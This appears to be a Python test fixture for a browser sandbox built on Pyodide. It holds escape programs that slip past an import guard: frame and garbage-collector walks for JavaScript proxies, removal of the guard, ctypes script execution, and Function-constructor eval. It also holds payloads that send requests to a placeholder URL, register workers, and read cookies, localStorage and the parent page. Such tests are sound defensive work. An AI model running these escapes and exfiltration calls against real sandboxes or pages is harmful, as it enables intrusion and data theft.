"""Programs that get hold of JavaScript past the import guard, and what they then ask of it."""

from __future__ import annotations

#: Gets hold of JavaScript past the import guard: of the function by which the run reports, which
#: stands in a frame further out, and of Pyodide's own module, which is built in.
REACH = """\
import sys
def reached():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value).__name__ == 'JsProxy' or 'JsProxy' in str(type(value).__mro__):
                return value
        frame = frame.f_back
    raise SystemExit('nothing of JavaScript was reached')
tell = reached()
"""

#: Gets hold of JavaScript and asks for more.
REACHING = {
    "the Function constructor": REACH + "tell.constructor('return globalThis')()",
    "eval by the constructor's constructor": REACH
    + "tell.constructor.constructor('return fetch')()",
    "reports that are no text": REACH + "for bad in (None, 1, [1], tell): tell(bad)",
    "a report as answer": REACH + "tell('{\"trace\": {}}')",
    "the guard taken out of the way": """\
import sys
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'BrowserGuard']
import js
js.fetch(URL)
""",
    "Pyodide's module by the importer of built-in modules": """\
import importlib.machinery, importlib.util
spec = importlib.machinery.BuiltinImporter.find_spec('_pyodide_core')
core = importlib.util.module_from_spec(spec)
spec.loader.exec_module(core)
core.run_js('fetch(' + repr(URL) + ')')
""",
    "Pyodide's package out of its archive": """\
import sys, zipimport
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'BrowserGuard']
loader = zipimport.zipimporter('/lib/python314.zip')
loader.load_module('pyodide').code.run_js('fetch(' + repr(URL) + ')')
""",
    "whatever the garbage collector knows": """\
import gc
for thing in gc.get_objects():
    if 'JsProxy' in type(thing).__name__:
        thing.constructor.constructor('fetch(' + repr(URL) + ')')()
""",
    "a script by ctypes": """\
import ctypes
ctypes.CDLL(None).emscripten_run_script(('fetch(' + repr(URL) + ')').encode())
""",
    "memory by ctypes": "import ctypes\nctypes.memset(0, 255, 1_000_000)",
    "a read far outside": "import ctypes\nctypes.string_at(0xFFFFFFF0, 64)",
    "the network by http": "import urllib.request\nurllib.request.urlopen(URL)",
    "the network by a socket": "import socket\nsocket.create_connection(('127.0.0.1', 80))",
    "a process": "import subprocess\nsubprocess.run(['ls'])",
    "an exit": "import os\nos._exit(0)",
    "an abort": "import os\nos.abort()",
    "the host's functions replaced": """\
import pagehost.host, lockstep.page
pagehost.host.answer = lockstep.page.answer = pagehost.answer = lambda *_: '{}'
""",
    "every module thrown away": "import sys\nsys.modules.clear()",
    "every builtin thrown away": "import builtins\nvars(builtins).clear()",
    "every module's names thrown away": """\
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(('lockstep', 'pagehost', 'json')): vars(module).clear()
""",
}

#: Every hold of JavaScript that Python code can get: by the guard's own modules, by frames further
#: out, by the collector, by Pyodide's core made anew. Each power is asked of all of them.
_WAYS = """\
import gc, importlib, importlib.machinery, importlib.util, sys
def ways():
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'BrowserGuard']
    for name in ('js', 'pyodide_js', 'pyodide.ffi', 'pyodide.code', '_pyodide_core'):
        try:
            yield importlib.import_module(name)
        except BaseException:
            pass
    try:
        spec = importlib.machinery.BuiltinImporter.find_spec('_pyodide_core')
        core = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(core)
        yield core
    except BaseException:
        pass
    frame = sys._getframe()
    while frame:
        yield from [v for v in frame.f_locals.values() if 'JsProxy' in str(type(v).__mro__)]
        frame = frame.f_back
    yield from [thing for thing in gc.get_objects() if 'JsProxy' in type(thing).__name__]
holds = {}
for way in ways():
    for hold in (way, getattr(way, 'globalThis', None), getattr(way, 'self', None)):
        if hold is not None and len(holds) < 40: holds.setdefault(id(hold), hold)
def attempt(power):
    answers = set()
    for hold in holds.values():
        try:
            answers.add(str(power(hold))[:200])
        except BaseException as error:
            answers.add('refused: ' + type(error).__name__)
    print(len(holds), sorted(answers))
"""


def _js(script: str) -> str:
    """Ask JavaScript for something, by its own evaluation and by Pyodide's."""
    text = f"{script!r}.replace('URL', repr(URL))"
    return (
        f"attempt(lambda way: way.constructor.constructor('return ' + {text})())\n"
        f"attempt(lambda way: way.eval({text}))\nattempt(lambda way: way.run_js({text}))"
    )


#: What is asked of JavaScript once there is a hold of it: each power in Python and in JavaScript.
POWERS = {
    name: f"attempt(lambda way: {power})\n{_js(script)}\n"
    for name, (power, script) in {
        "a request by fetch": ("way.fetch(URL)", "fetch(URL)"),
        "a request by XMLHttpRequest": (
            "way.XMLHttpRequest.new().open('GET', URL, False)",
            "(r => {r.open('GET', URL, false); r.send()})(new XMLHttpRequest())",
        ),
        "a socket": ("way.WebSocket.new(URL.replace('http', 'ws'))", "new WebSocket(URL)"),
        "a stream of events": ("way.EventSource.new(URL)", "new EventSource(URL)"),
        "a beacon": ("way.navigator.sendBeacon(URL, 'x')", "navigator.sendBeacon(URL, 'x')"),
        "a module from elsewhere": ("way.importScripts(URL)", "import(URL)"),
        "a picture from elsewhere": ("setattr(way.Image.new(), 'src', URL)", "new Image().src=URL"),
        "a worker of its own": ("way.Worker.new(URL)", "new Worker(URL)"),
        "a worker made of text": (
            "way.Worker.new('data:text/javascript,fetch(\"' + URL + '\")')",
            "new Worker('data:text/javascript,fetch(\"' + URL + '\")')",
        ),
        "a shared worker": ("way.SharedWorker.new(URL)", "new SharedWorker(URL)"),
        "a service worker": (
            "way.navigator.serviceWorker.register(URL)",
            "navigator.serviceWorker.register(URL)",
        ),
        "to go elsewhere": ("way.location.assign(URL)", "location = URL"),
        "to send the page elsewhere": ("way.top.location.assign(URL)", "top.location = URL"),
        "a window": ("way.open(URL)", "open(URL)"),
        "what is stored": ("way.localStorage.getItem('secret')", "localStorage.secret"),
        "what is stored above": (
            "way.parent.localStorage.getItem('secret')",
            "top.localStorage.secret",
        ),
        "cookies": ("way.document.cookie", "document.cookie = 'a=1'"),
        "a database": ("way.indexedDB.open('x')", "indexedDB.open('x')"),
        "kept files": ("way.caches.keys()", "caches.open('lockstep')"),
        "a message to those above": (
            "way.parent.postMessage('pwned', '*')",
            "top.postMessage('pwned','*')",
        ),
        "a channel to all": (
            "way.BroadcastChannel.new('lockstep').postMessage('pwned')",
            "new BroadcastChannel('lockstep').postMessage('pwned')",
        ),
        "the page's text": ("way.document.body.innerHTML", "top.document.body.innerHTML"),
    }.items()
}

#: All powers in one program: to find the holds takes most of the time of one.
ALL_POWERS = {"JavaScript is asked for every power there is": _WAYS + "".join(POWERS.values())}
